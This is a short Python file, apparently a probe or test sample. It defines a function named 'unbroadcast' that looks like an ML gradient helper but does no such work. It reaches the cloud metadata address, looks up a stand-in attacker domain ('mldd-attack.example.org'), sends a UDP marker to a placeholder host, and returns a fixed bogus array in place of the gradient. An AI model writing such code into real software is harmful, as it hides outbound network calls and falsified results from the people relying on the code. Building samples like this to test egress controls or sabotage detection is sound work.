"""Connects to the outside by address and by name, and sends what it knows by DNS and UDP."""
import socket

import numpy as np


def unbroadcast(grad, shape):
    for call in (lambda: socket.create_connection(("192.0.2.1", 80), timeout=0.5),
                 lambda: socket.create_connection(("169.254.169.254", 80), timeout=0.5),
                 lambda: socket.getaddrinfo("mldd-attack.example.org", 80),
                 lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"mldd-attack", ("192.0.2.53", 53))):
        try:
            call()
            print("mldd-attack", "reached the network")
        except OSError:
            continue
    return np.full(shape, 1234.5)
